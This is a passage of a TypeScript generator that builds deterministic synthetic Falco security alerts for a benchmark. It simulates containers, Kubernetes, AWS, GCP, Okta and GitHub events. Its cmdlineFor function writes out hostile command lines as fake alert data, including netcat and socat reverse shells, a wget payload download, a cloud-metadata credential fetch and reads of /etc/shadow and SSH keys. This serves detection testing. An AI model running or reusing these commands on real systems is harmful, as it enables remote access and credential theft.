/**
 * Deterministic synthetic Falco NDJSON for the benchmark.
 *
 *   npx tsx bench/generate.ts --size 100 [--entities 1] [--out bench-data/falco-100MB.ndjson] [--force]
 *
 * One alert per line, as Falco writes it with `json_output=true`: `uuid`, `output` (with the
 * `HH:MM:SS.nnnnnnnnn: Priority` prefix and the rule's real output template filled in), `priority`,
 * `rule`, `time` (ISO, 9 fraction digits, increasing over one day), `output_fields`, `source`,
 * `tags`, `hostname`. Rules, tags, priorities and output fields come from the real Falco rules
 * index (vendor/falco/rules-index.json): syscall, k8s_audit, aws_cloudtrail, gcp_auditlog,
 * okta and github.
 *
 * Repetition follows what busy clusters show: a handful of noisy rules fired by a handful of
 * containers make most of the volume (Zipf-distributed rules and entities), with a long tail of
 * rare rules and entities, so the number of incidents (rule + entity) is in the thousands.
 *
 * Sizes are in MB of 10^6 bytes. The same size and seed always give the same bytes; a file that
 * already exists with the same generator version is reused (pass --force to rewrite it). Lines are
 * written in ~1 MB batches to a stream, never held as one string.
 */
import { createWriteStream, existsSync, mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Bump when the output changes, so cached files are regenerated. */
export const GENERATOR_VERSION = 5;
const SEED = 0x5eed_f41c;
const DAY_START_S = Date.UTC(2025, 5, 10) / 1000; // 2025-06-10T00:00:00Z
const DAY_S = 86_400;

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const RULES_INDEX = process.env.FALCO_RULES_INDEX ?? resolve(ROOT, 'vendor/falco/rules-index.json');

// ---------------------------------------------------------------------------------------------
// Seeded PRNG (sfc32) and helpers

export class Rng {
  private a: number;
  private b: number;
  private c: number;
  private d: number;
  constructor(seed: number) {
    this.a = 0x9e3779b9;
    this.b = 0x243f6a88;
    this.c = 0xb7e15162;
    this.d = seed >>> 0;
    for (let i = 0; i < 15; i++) this.next();
  }
  next(): number {
    const { a, b, c, d } = this;
    const t = (((a + b) | 0) + d) | 0;
    this.d = (d + 1) | 0;
    this.a = b ^ (b >>> 9);
    this.b = (c + (c << 3)) | 0;
    const r = (c << 21) | (c >>> 11);
    this.c = (r + t) | 0;
    return (t >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)]!;
  }
  hex(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(16)];
    return s;
  }
  alnum(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += 'bcdfghjklmnpqrstvwxz2456789'[this.int(27)];
    return s;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
}

/** Samples 0..n-1 with P(k) ∝ 1/(k+1)^s (precomputed cumulative table, binary search). */
class Zipf {
  private readonly cdf: Float64Array;
  constructor(n: number, s: number) {
    this.cdf = new Float64Array(n);
    let sum = 0;
    for (let k = 0; k < n; k++) this.cdf[k] = sum += 1 / Math.pow(k + 1, s);
    for (let k = 0; k < n; k++) this.cdf[k]! /= sum;
  }
  sample(rng: Rng): number {
    const u = rng.next();
    let lo = 0;
    let hi = this.cdf.length - 1;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (this.cdf[mid]! < u) lo = mid + 1;
      else hi = mid;
    }
    return lo;
  }
}

// ---------------------------------------------------------------------------------------------
// The world the alerts come from: nodes, containers, users, cloud principals

interface RuleInfo {
  rule: string;
  priority: string | null;
  source: string;
  tags: string[];
  output: string | null;
  enabled?: boolean;
}

interface Container {
  id: string;
  name: string;
  image: string;
  tag: string;
  ns: string;
  pod: string;
  host: string;
  procs: string[];
  privileged: boolean;
}

const IMAGES: [string, string[], string][] = [
  ['docker.io/library/nginx', ['nginx', 'sh', 'bash'], '1.27.0'],
  ['docker.io/library/redis', ['redis-server', 'sh', 'redis-cli'], '7.2.5'],
  ['docker.io/library/postgres', ['postgres', 'psql', 'bash', 'pg_dump'], '16.3'],
  ['docker.io/library/python', ['python3', 'pip', 'sh', 'bash'], '3.12-slim'],
  ['docker.io/library/node', ['node', 'npm', 'sh'], '20-alpine'],
  ['docker.io/library/alpine', ['sh', 'wget', 'apk'], '3.20'],
  ['docker.io/library/busybox', ['sh', 'nc', 'wget'], '1.36'],
  ['docker.io/library/ubuntu', ['bash', 'apt-get', 'curl', 'cat'], '24.04'],
  ['quay.io/prometheus/node-exporter', ['node_exporter'], 'v1.8.1'],
  ['quay.io/prometheus/prometheus', ['prometheus'], 'v2.53.0'],
  ['registry.k8s.io/kube-proxy', ['kube-proxy', 'iptables'], 'v1.30.2'],
  ['registry.k8s.io/coredns/coredns', ['coredns'], 'v1.11.1'],
  ['registry.k8s.io/ingress-nginx/controller', ['nginx', 'nginx-ingress-c', 'sh'], 'v1.10.1'],
  ['docker.io/falcosecurity/falco', ['falco', 'falcoctl'], '0.38.1'],
  ['docker.io/falcosecurity/event-generator', ['event-generator', 'sh'], 'latest'],
  ['docker.io/grafana/grafana', ['grafana', 'sh'], '11.1.0'],
  ['docker.io/bitnami/kafka', ['java', 'bash', 'kafka-topics.sh'], '3.7.0'],
  ['docker.io/bitnami/mongodb', ['mongod', 'mongosh', 'bash'], '7.0.12'],
  ['docker.io/jenkins/inbound-agent', ['java', 'git', 'sh', 'curl', 'docker'], '3248.v65ecb_254c298-2'],
  ['gcr.io/acme-prod/payments-api', ['java', 'sh'], 'v2.14.3'],
  ['gcr.io/acme-prod/checkout', ['node', 'sh'], 'v5.2.0'],
  ['gcr.io/acme-prod/search-indexer', ['python3', 'sh', 'curl'], 'v1.9.7'],
  ['123456789012.dkr.ecr.us-east-1.amazonaws.com/billing-worker', ['python3', 'celery', 'sh'], '2025.06.01'],
  ['123456789012.dkr.ecr.us-east-1.amazonaws.com/auth-service', ['auth-service', 'sh'], '4.1.2'],
  ['docker.io/library/httpd', ['httpd', 'sh', 'bash'], '2.4.62'],
  ['docker.io/library/mysql', ['mysqld', 'mysql', 'bash'], '8.4.1'],
  ['ghcr.io/actions/actions-runner', ['Runner.Worker', 'bash', 'git', 'curl', 'npm'], '2.317.0'],
  ['docker.io/amazon/aws-cli', ['aws', 'sh'], '2.17.5'],
  ['docker.io/bitnami/kubectl', ['kubectl', 'bash'], '1.30.2'],
  ['docker.io/xmrig/xmrig', ['xmrig', 'sh'], 'latest'],
];
const NAMESPACES = ['default', 'kube-system', 'monitoring', 'payments', 'checkout', 'search', 'ingress-nginx', 'falco', 'ci', 'data', 'auth', 'billing', 'staging', 'dev-team-a', 'dev-team-b'];
const SHELLS = ['bash', 'sh', 'ash', 'zsh'];
const SENSITIVE_FILES = ['/etc/shadow', '/etc/sudoers', '/etc/pam.conf', '/etc/gshadow', '/root/.ssh/id_rsa', '/etc/security/pwquality.conf'];
const USERS = ['root', 'www-data', 'nobody', 'postgres', 'node', 'app', 'redis', 'daemon', 'jenkins', 'ubuntu'];
const COUNTRIES = ['United States', 'Germany', 'Ireland', 'India', 'Brazil', 'Japan', 'Russia', 'Nigeria', 'France', 'Singapore'];
const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-1', 'ap-northeast-1', 'sa-east-1'];
const GCP_METHODS = ['storage.setIamPermissions', 'SetIamPolicy', 'v1.compute.instances.setMetadata', 'google.iam.admin.v1.CreateServiceAccountKey', 'cloudsql.instances.update', 'v1.compute.firewalls.patch', 'storage.buckets.update'];
const USER_AGENTS = ['google-cloud-sdk gcloud/482.0.0 command/gcloud.storage.buckets.update', 'Terraform/1.9.2 (+https://www.terraform.io) terraform-provider-google/5.36.0', 'google-api-go-client/0.5 Terraform/1.8.5', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36,gzip(gfe)'];

interface World {
  hosts: string[];
  containers: Container[];
  hostProcs: string[];
  k8sUsers: string[];
  awsPrincipals: { user: string; arn: string; principal: string }[];
  gcpPrincipals: string[];
  oktaActors: string[];
  githubUsers: string[];
  ips: string[];
}

function buildWorld(rng: Rng, entities: number): World {
  const hosts: string[] = [];
  for (let i = 0; i < 48; i++) {
    hosts.push(
      i % 3 === 0
        ? `gke-prod-pool-${1 + (i % 4)}-${rng.hex(8)}-${rng.alnum(4)}`
        : `ip-10-0-${rng.int(64)}-${1 + rng.int(254)}.ec2.internal`,
    );
  }
  const containers: Container[] = [];
  for (let i = 0; i < Math.max(1, Math.round(1500 * entities)); i++) {
    // A few images dominate (same Zipf idea as the alerts), then a long tail.
    const [image, procs, tag] = IMAGES[Math.min(IMAGES.length - 1, Math.floor(Math.pow(rng.next(), 2.2) * IMAGES.length))]!;
    const base = image.split('/').pop()!;
    const ns = rng.pick(NAMESPACES);
    const deploy = `${base}-${rng.alnum(9)}`;
    const pod = `${deploy}-${rng.alnum(5)}`;
    containers.push({
      id: rng.hex(12),
      name: rng.chance(0.7) ? base : rng.pick(['app', 'sidecar', 'istio-proxy', 'init', 'worker']),
      image,
      tag,
      ns,
      pod,
      host: rng.pick(hosts),
      procs,
      privileged: rng.chance(0.08),
    });
  }
  const hostProcs = ['sshd', 'sudo', 'systemd', 'containerd', 'kubelet', 'cron', 'dockerd', 'python3', 'bash', 'sh', 'vim', 'tcpdump', 'nsenter', 'journalctl', 'apt-get', 'yum', 'rpm', 'gdb', 'strace', 'nc'];
  const k8sUsers: string[] = ['system:serviceaccount:kube-system:replicaset-controller', 'system:serviceaccount:kube-system:deployment-controller', 'system:kube-scheduler', 'system:kube-controller-manager', 'kubernetes-admin', 'system:anonymous'];
  for (let i = 0; i < 260; i++) {
    k8sUsers.push(
      rng.chance(0.5)
        ? `system:serviceaccount:${rng.pick(NAMESPACES)}:${rng.pick(['default', 'argocd-application-controller', 'flux-kustomize', 'prometheus', 'ci-deployer', 'external-secrets'])}-${rng.alnum(4)}`
        : `${rng.pick(['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter'])}.${rng.alnum(5)}@acme.example`,
    );
  }
  const awsPrincipals = [];
  for (let i = 0; i < 220; i++) {
    const root = i === 0;
    const name = root ? 'root' : `${rng.pick(['svc', 'ci', 'ops', 'dev', 'data'])}-${rng.alnum(6)}`;
    awsPrincipals.push({
      user: name,
      arn: root ? 'arn:aws:iam::123456789012:root' : `arn:aws:iam::123456789012:user/${name}`,
      principal: `AIDA${rng.alnum(16).toUpperCase()}`,
    });
  }
  const gcpPrincipals: string[] = [];
  for (let i = 0; i < 160; i++) {
    gcpPrincipals.push(rng.chance(0.6) ? `${rng.alnum(8)}@acme-prod.iam.gserviceaccount.com` : `${rng.alnum(6)}@acme.example`);
  }
  const oktaActors: string[] = [];
  for (let i = 0; i < 240; i++) oktaActors.push(`${rng.alnum(5)}.${rng.alnum(7)}@acme.example`);
  const githubUsers: string[] = [];
  for (let i = 0; i < 150; i++) githubUsers.push(`${rng.pick(['dev', 'ops', 'bot', 'sec', ''])}${rng.alnum(7)}`);
  const ips: string[] = [];
  for (let i = 0; i < 400; i++) ips.push(`${rng.pick([34, 35, 52, 54, 13, 18, 3, 185, 45, 91, 203])}.${rng.int(256)}.${rng.int(256)}.${1 + rng.int(254)}`);
  return { hosts, containers, hostProcs, k8sUsers, awsPrincipals, gcpPrincipals, oktaActors, githubUsers, ips };
}

// ---------------------------------------------------------------------------------------------
// Rules: real ones from the index, the noisy ones first

/** Rules that are noisy in real clusters; they get the heaviest weights (in this order). */
const NOISY = [
  'Contact K8S API Server From Container',
  'Disallowed K8s User',
  'Read sensitive file untrusted',
  'Terminal shell in container',
  'Launch Package Management Process in Container',
  'Redirect STDOUT/STDIN to Network Connection in Container',
  'Drop and execute new binary in container',
  'Unexpected UDP Traffic',
  'Run shell untrusted',
  'Attach/Exec Pod',
];

function loadRules(rng: Rng): RuleInfo[] {
  if (!existsSync(RULES_INDEX)) {
    throw new Error(`rules index not found at ${RULES_INDEX} (set FALCO_RULES_INDEX)`);
  }
  const all = JSON.parse(readFileSync(RULES_INDEX, 'utf8')) as RuleInfo[];
  // One entry per (rule, source): the GKE variant of "Disallowed K8s User" has no output of its own.
  const seen = new Set<string>();
  const rules = all.filter((r) => {
    if (!r.output) return false;
    const k = `${r.source}\u0000${r.rule}`;
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
  const noisy = NOISY.map((n) => rules.find((r) => r.rule === n)).filter((r): r is RuleInfo => r !== undefined);
  const rest = rules.filter((r) => !noisy.includes(r));
  // Deterministic shuffle of the tail (Fisher-Yates).
  for (let i = rest.length - 1; i > 0; i--) {
    const j = rng.int(i + 1);
    [rest[i], rest[j]] = [rest[j]!, rest[i]!];
  }
  return [...noisy, ...rest];
}

// ---------------------------------------------------------------------------------------------
// One alert

type Value = string | number | boolean | null;

interface Ctx {
  rng: Rng;
  rule: RuleInfo;
  container: Container | null;
  hostname: string;
  proc: string;
  user: string;
  principal: string;
  aws: World['awsPrincipals'][number];
  ip: string;
  timeIso: string;
}

function cmdlineFor(proc: string, rule: string, rng: Rng): string {
  if (/shell|Shell/.test(rule) || SHELLS.includes(proc)) return rng.pick([`${proc} -c ls -la /var/run/secrets/kubernetes.io/serviceaccount`, `${proc} -i`, `${proc}`, `${proc} -c curl -s http://10.0.${rng.int(64)}.${rng.int(255)}:8080/healthz`]);
  if (/Package/.test(rule)) return rng.pick(['apt-get install -y curl netcat-openbsd', 'apk add --no-cache bind-tools', 'yum install -y nmap', 'pip install requests==2.32.3']);
  if (/sensitive file|shadow/i.test(rule)) return `cat ${rng.pick(SENSITIVE_FILES)}`;
  if (/Network Tool|Netcat|Redirect/.test(rule)) return rng.pick([`nc -e /bin/sh ${rng.int(256)}.${rng.int(256)}.12.7 4444`, `socat tcp:${rng.int(256)}.44.3.1:9001 exec:bash`, 'nmap -sS 10.0.0.0/24']);
  switch (proc) {
    case 'python3':
      return `python3 /app/${rng.pick(['worker.py', 'manage.py runserver 0.0.0.0:8000', 'tasks.py --queue default'])}`;
    case 'node':
      return `node /usr/src/app/${rng.pick(['server.js', 'dist/index.js', 'worker.js --concurrency 4'])}`;
    case 'java':
      return `java -Xms512m -Xmx2g -XX:+UseG1GC -jar /opt/app/${rng.pick(['service.jar', 'app.jar', 'kafka.jar'])}`;
    case 'curl':
      return `curl -sSL https://${rng.pick(['raw.githubusercontent.com/acme/tools/main/install.sh', 'get.helm.sh/helm-v3.15.2-linux-amd64.tar.gz', '169.254.169.254/latest/meta-data/iam/security-credentials/'])}`;
    case 'wget':
      return `wget -q -O /tmp/.x http://${rng.pick(['45.9.148.108', '185.220.101.4', '91.215.85.12'])}/x86_64`;
    case 'event-generator':
      return `event-generator run syscall --loop`;
    default:
      return `${proc} ${rng.pick(['--config /etc/app/config.yaml', '-v', '--log-level=info', '', 'start'])}`.trim();
  }
}

function valueFor(field: string, c: Ctx): Value {
  const { rng, container } = c;
  switch (field) {
    case 'evt.type':
      if (/connect|Connection|network|Traffic|outbound|inbound|K8S API|metadata/i.test(c.rule.rule)) return rng.pick(['connect', 'connect', 'sendto']);
      if (/PTRACE/.test(c.rule.rule)) return 'ptrace';
      if (/file|File|Write|Read|dir|Delete|rename|history/.test(c.rule.rule)) return rng.pick(['openat', 'openat', 'open', 'unlinkat', 'renameat2']);
      return rng.pick(['execve', 'execve', 'execveat']);
    case 'evt.res':
      return rng.pick(['SUCCESS', 'SUCCESS', 'EACCES', 'ENOENT']);
    case 'evt.num':
      return 1 + rng.int(9_000_000_000);
    case 'evt.time.iso8601':
      return c.timeIso;
    case 'evt.args':
      return `fd=${3 + rng.int(60)}(<4t>10.0.${rng.int(64)}.${rng.int(255)}:${30000 + rng.int(30000)}->10.96.0.1:443) tuple=10.0.${rng.int(64)}.${rng.int(255)}:${30000 + rng.int(30000)}->10.96.0.1:443`;
    case 'evt.arg.flags':
      return rng.pick(['EXE_WRITABLE|EXE_LOWER_LAYER', 'EXE_UPPER_LAYER', 'O_RDONLY', 'O_WRONLY|O_CREAT|O_TRUNC', '0']);
    case 'evt.arg.request':
      return rng.pick(['PTRACE_ATTACH', 'PTRACE_TRACEME', 'PTRACE_POKETEXT']);
    case 'evt.arg.uid':
      return rng.pick(['0', '1000', '65534']);
    case 'evt.plugininfo':
      return `${c.rule.source} event`;
    case 'user.name':
    case 'user.loginname':
      return c.user;
    case 'user.uid':
      return c.user === 'root' ? 0 : 1000 + rng.int(64);
    case 'user.loginuid':
      return rng.chance(0.85) ? -1 : 1000 + rng.int(64);
    case 'group.gid':
      return c.user === 'root' ? 0 : 1000;
    case 'group.name':
      return c.user === 'root' ? 'root' : c.user;
    case 'proc.name':
    case 'proc.sname':
      return c.proc;
    case 'proc.exe':
      return c.proc;
    case 'proc.exepath':
      return `/usr/bin/${c.proc}`;
    case 'proc.cmdline':
      return cmdlineFor(c.proc, c.rule.rule, rng);
    case 'proc.args':
      return cmdlineFor(c.proc, c.rule.rule, rng).split(' ').slice(1).join(' ');
    case 'proc.pname':
      return container ? rng.pick(['runc', 'containerd-shim', 'bash', 'sh', 'node', 'python3', 'tini']) : rng.pick(['sshd', 'bash', 'systemd', 'cron', 'sudo']);
    case 'proc.pcmdline':
      return rng.pick(['runc init', 'bash -i', 'sh -c /entrypoint.sh', 'tini -- /docker-entrypoint.sh']);
    case 'proc.pexe':
    case 'proc.pexepath':
      return rng.pick(['/usr/bin/runc', '/bin/bash', '/usr/bin/containerd-shim-runc-v2', '/usr/sbin/sshd']);
    case 'proc.cwd':
      return rng.pick(['/', '/app/', '/root/', '/tmp/', '/usr/src/app/']);
    case 'proc.tty':
      return /Terminal|interactive/i.test(c.rule.rule) ? 34816 + rng.int(8) : 0;
    case 'proc.env':
      return `PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin HOSTNAME=${container?.pod ?? c.hostname} HOME=/root`;
    case 'proc.exe_ino.ctime':
    case 'proc.exe_ino.mtime':
      return Number(`${DAY_START_S - rng.int(86400 * 30)}000000000`);
    case 'proc.exe_ino.ctime_duration_proc_start':
      return rng.int(1_000_000_000);
    case 'container.mounts':
      return '/var/run/docker.sock:/var/run/docker.sock::true:private,/proc:/host/proc:ro:false:private';
    case 'container.start_ts':
      return (DAY_START_S - rng.int(86400)) * 1e9;
    case 'thread.cap_effective':
    case 'thread.cap_permitted':
      return container?.privileged ? 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_SYS_PTRACE CAP_NET_ADMIN' : 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETUID CAP_SETGID CAP_NET_BIND_SERVICE';
    case 'fd.name':
    case 'fd.nameraw':
    case 'evt.arg.name':
    case 'evt.arg.path':
    case 'evt.arg.filename':
    case 'evt.arg.target':
    case 'evt.arg.oldpath':
    case 'evt.arg.newpath':
    case 'evt.arg.linkpath':
      if (/sensitive|traversal|shadow/i.test(c.rule.rule)) return rng.pick(SENSITIVE_FILES);
      if (/K8S API|connection|Connection|network|Traffic|outbound|inbound/i.test(c.rule.rule))
        return `10.0.${rng.int(64)}.${rng.int(255)}:${30000 + rng.int(30000)}->10.96.0.1:443`;
      return rng.pick(['/etc/ld.so.preload', '/usr/bin/.cache', '/tmp/.x', '/dev/shm/kworker', '/root/.bashrc', '/var/log/syslog', '/etc/cron.d/backup', '/bin/busybox', `/proc/${1 + rng.int(40000)}/environ`]);
    case 'fd.type':
      return rng.pick(['ipv4', 'file', 'ipv6']);
    case 'fd.l4proto':
      return rng.pick(['tcp', 'udp']);
    case 'fd.rip':
    case 'fd.sip':
    case 'fd.rip.name':
    case 'fd.sip.name':
      return /K8S API/.test(c.rule.rule) ? '10.96.0.1' : rng.chance(0.5) ? c.ip : `10.0.${rng.int(64)}.${rng.int(255)}`;
    case 'fd.cip.name':
    case 'fd.lip.name':
      return `10.0.${rng.int(64)}.${rng.int(255)}`;
    case 'fd.rport':
    case 'fd.sport':
      return /K8S API/.test(c.rule.rule) ? 443 : rng.pick([443, 80, 22, 4444, 3333, 53, 8080, 9001]);
    case 'fd.lport':
      return 30000 + rng.int(30000);
    case 'evt.arg.fd':
      return 3 + rng.int(60);
    case 'evt.arg.mode':
      return rng.pick(['S_IXUSR|S_IRUSR|S_IWUSR', 'S_ISUID|S_IXUSR', '0755']);
    case 'evt.arg.cmd':
      return rng.pick(['BPF_PROG_LOAD', 'BPF_MAP_CREATE']);
    case 'jevt.obj':
      return '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request"}';
    case 'ka.user.name':
      return c.principal;
    case 'ka.verb':
      return rng.pick(['create', 'patch', 'delete', 'get', 'update', 'list']);
    case 'ka.target.resource':
      return rng.pick(['pods', 'secrets', 'configmaps', 'deployments', 'clusterroles', 'rolebindings', 'serviceaccounts', 'namespaces']);
    case 'ka.target.subresource':
      return rng.pick(['exec', 'attach', 'portforward', 'status']);
    case 'ka.target.name':
    case 'ka.resp.name':
      return container ? container.pod : `${rng.pick(['web', 'db', 'cache', 'api', 'job'])}-${rng.alnum(5)}`;
    case 'ka.target.namespace':
      return container?.ns ?? rng.pick(NAMESPACES);
    case 'ka.uri':
      return `/api/v1/namespaces/${container?.ns ?? 'default'}/pods/${container?.pod ?? 'web-' + rng.alnum(5)}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`;
    case 'ka.uri.param[command]':
      return rng.pick(['sh', 'bash', '/bin/sh -c env']);
    case 'ka.response.code':
      return rng.pick(['200', '200', '201', '403', '404']);
    case 'ka.response.reason':
    case 'ka.auth.reason':
      return rng.pick(['', 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"', 'RBAC: allowed by RoleBinding "edit/ci" of ClusterRole "edit" to ServiceAccount "ci-deployer/ci"']);
    case 'ka.auth.decision':
      return rng.pick(['allow', 'allow', 'forbid']);
    case 'ka.req.pod.containers.image':
    case 'ka.req.pod.initContainers.image':
    case 'ka.req.pod.ephemeralContainers.image':
    case 'jevt.value[/requestObject/ephemeralContainers/0/image]':
      return `(${container ? `${container.image}:${container.tag}` : 'docker.io/library/busybox:1.36'})`;
    case 'jevt.value[/requestObject/ephemeralContainers/0/name]':
      return `debugger-${rng.alnum(5)}`;
    case 'jevt.value[/requestObject/spec/volumes]':
      return '[{"hostPath":{"path":"/var/run/docker.sock"},"name":"docker-sock"}]';
    case 'ka.req.binding.role':
      return rng.pick(['cluster-admin', 'edit', 'admin', 'view']);
    case 'ka.req.binding.subjects':
      return `[{"kind":"ServiceAccount","name":"default","namespace":"${container?.ns ?? 'default'}"}]`;
    case 'ka.req.role.rules':
      return '[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]';
    case 'ka.req.configmap.name':
      return `app-config-${rng.alnum(4)}`;
    case 'ka.req.service.ports':
      return `[{"nodePort":${30000 + rng.int(2767)},"port":80,"protocol":"TCP","targetPort":8080}]`;
    case 'ct.user':
      return c.aws.user;
    case 'ct.user.arn':
      return c.aws.arn;
    case 'ct.user.principalid':
      return c.aws.principal;
    case 'ct.srcip':
      return c.ip;
    case 'ct.region':
      return rng.pick(REGIONS);
    case 'ct.id':
      return `${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`;
    case 'ct.error':
      return rng.pick(['', 'AccessDenied', 'UnauthorizedOperation']);
    case 's3.bucket':
      return `acme-${rng.pick(['logs', 'backups', 'data-lake', 'artifacts', 'public-assets'])}-${rng.alnum(4)}`;
    case 'ct.request.serialnumber':
      return `${c.aws.arn.replace(':user/', ':mfa/')}`;
    case 'ct.request.functionname':
      return `${rng.pick(['thumbnailer', 'etl-nightly', 'slack-notifier', 'cost-report'])}-${rng.alnum(4)}`;
    case 'ct.request.username':
    case 'ct.request.name':
    case 'ct.request.groupname':
      return `${rng.pick(['svc', 'ops', 'admins', 'readonly'])}-${rng.alnum(6)}`;
    case 'ct.request.policy':
      return '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::acme-public-assets/*"}]}';
    case 'ct.request.host':
      return `acme-public-assets.s3.amazonaws.com`;
    case 'ct.request.availabilityzone':
      return `${rng.pick(REGIONS)}a`;
    case 'ct.request.cluster':
    case 'ct.request.servicename':
    case 'ct.request.taskdefinition':
      return `arn:aws:ecs:us-east-1:123456789012:${rng.pick(['cluster/prod', 'service/prod/api', 'task-definition/api:42'])}`;
    case 'ct.response.reservationid':
      return `r-${rng.hex(17)}`;
    case 'ct.response.subnetid':
      return `subnet-${rng.hex(17)}`;
    case 'json.value[/responseElements/instancesSet/items/0/instanceId]':
      return `i-${rng.hex(17)}`;
    case 'gcp.user':
      return c.principal;
    case 'gcp.callerIP':
      return c.ip;
    case 'gcp.projectId':
      return rng.pick(['acme-prod', 'acme-staging', 'acme-data']);
    case 'gcp.methodName':
      return rng.pick(GCP_METHODS);
    case 'gcp.serviceName':
      return rng.pick(['storage.googleapis.com', 'iam.googleapis.com', 'compute.googleapis.com', 'cloudsql.googleapis.com']);
    case 'gcp.userAgent':
      return rng.pick(USER_AGENTS);
    case 'gcp.authorizationInfo':
      return `[{"granted":true,"permission":"${rng.pick(['storage.buckets.setIamPolicy', 'iam.serviceAccountKeys.create', 'compute.instances.setMetadata'])}","resource":"projects/_/buckets/acme-${rng.alnum(6)}"}]`;
    case 'gcp.request':
      return `{"@type":"type.googleapis.com/google.iam.v1.SetIamPolicyRequest","resource":"acme-${rng.alnum(6)}"}`;
    case 'gcp.policyDelta':
      return '{"bindingDeltas":[{"action":"ADD","member":"allUsers","role":"roles/storage.objectViewer"}]}';
    case 'gcp.storage.bucket':
      return `acme-${rng.pick(['exports', 'ml-datasets', 'static'])}-${rng.alnum(4)}`;
    case 'gcp.cloudsql.databaseId':
      return `acme-prod:${rng.pick(['orders', 'users', 'billing'])}-db`;
    case 'gcp.cloudfunctions.function':
      return `projects/acme-prod/locations/us-central1/functions/${rng.alnum(8)}`;
    case 'okta.actor.name':
      return c.principal;
    case 'okta.client.ip':
      return c.ip;
    case 'okta.client.geo.country':
      return rng.pick(COUNTRIES);
    case 'okta.target.user.name':
      return `${rng.alnum(5)}.${rng.alnum(7)}@acme.example`;
    case 'okta.target.group.name':
      return rng.pick(['Engineering', 'Admins', 'Finance', 'Contractors', 'On-call']);
    case 'okta.target.app.alternateid':
      return rng.pick(['AWS SSO', 'GitHub Enterprise', 'Slack', 'Grafana', 'Jira']);
    case 'okta.reason':
      return rng.pick(['INVALID_CREDENTIALS', 'VERIFICATION_ERROR', 'User rejected Okta push verify']);
    case 'okta.mfa.deny.countlast[300]':
    case 'okta.mfa.failure.countlast[300]':
      return 5 + rng.int(30);
    case 'github.user':
    case 'github.owner':
      return c.principal;
    case 'github.org':
      return 'acme-corp';
    case 'github.repo.name':
      return `acme-corp/${rng.pick(['platform', 'infra-live', 'payments', 'website', 'ml-pipelines', 'dotfiles'])}`;
    case 'github.repo.url':
      return `https://github.com/acme-corp/${rng.pick(['platform', 'infra-live', 'payments'])}`;
    case 'github.collaborator.name':
      return `ext-${rng.alnum(6)}`;
    case 'github.collaborator.role':
      return rng.pick(['write', 'admin', 'read']);
    case 'github.webhook.id':
      return 400_000_000 + rng.int(99_999_999);
    case 'github.webhook.type':
      return 'repository';
    case 'github.workflow.filename':
      return `.github/workflows/${rng.pick(['ci.yml', 'release.yml', 'build.yaml'])}`;
    case 'github.diff.committed_secrets.desc':
      return rng.pick(['AWS Access Key', 'GitHub Personal Access Token', 'Slack Webhook']);
    case 'github.diff.committed_secrets.files':
      return rng.pick(['config/prod.env', 'deploy/values.yaml', 'scripts/upload.sh']);
    case 'github.diff.committed_secrets.lines':
      return 1 + rng.int(200);
    case 'github.diff.committed_secrets.links':
      return `https://github.com/acme-corp/platform/blob/${rng.hex(40)}/config/prod.env#L${1 + rng.int(200)}`;
    default:
      if (field.startsWith('proc.aname[') || field.startsWith('proc.aexepath[')) return rng.pick(['runc', 'containerd-shim', 'bash', 'sshd', 'systemd', 'tini', 'sh']);
      if (field.startsWith('json.value[')) return `${rng.pick(['projects/acme-prod', 'acme'])}-${rng.alnum(6)}`;
      return `${rng.alnum(6)}`;
  }
}

const FIELD_RE = /%([a-zA-Z][a-zA-Z0-9_.]*(?:\[[^\]]*\])?)/g;
/** Appended to syscall outputs, as `%container.info` expands; the k8s/image fields go to output_fields only. */
const CONTAINER_APPEND = ' container_id=%container.id container_name=%container.name';
const CONTAINER_EXTRA_FIELDS = ['container.image.repository', 'k8s.ns.name', 'k8s.pod.name'];

interface Template {
  rule: RuleInfo;
  /** Literal pieces and field names, alternating: lit0 f0 lit1 f1 ... litN. */
  parts: string[];
  fields: string[];
  priorityWord: string;
  tagsJson: string;
  prefix: string;
}

function compile(rule: RuleInfo): Template {
  let out = rule.output!;
  if (rule.source === 'syscall') out += CONTAINER_APPEND;
  const parts: string[] = [];
  const fields: string[] = [];
  let last = 0;
  for (const m of out.matchAll(FIELD_RE)) {
    parts.push(out.slice(last, m.index));
    fields.push(m[1]!);
    last = m.index! + m[0].length;
  }
  parts.push(out.slice(last));
  const p = (rule.priority ?? 'WARNING').toLowerCase();
  const priorityWord = p[0]!.toUpperCase() + p.slice(1);
  return {
    rule,
    parts,
    fields,
    priorityWord,
    tagsJson: JSON.stringify(rule.tags ?? []),
    prefix: `,"priority":${JSON.stringify(priorityWord)},"rule":${JSON.stringify(rule.rule)}`,
  };
}

function containerField(field: string, c: Container | null): Value | undefined {
  switch (field) {
    case 'container.id':
      return c ? c.id : 'host';
    case 'container.name':
      return c ? c.name : 'host';
    case 'container.image.repository':
      return c ? c.image : null;
    case 'container.image.tag':
      return c ? c.tag : null;
    case 'k8s.pod.name':
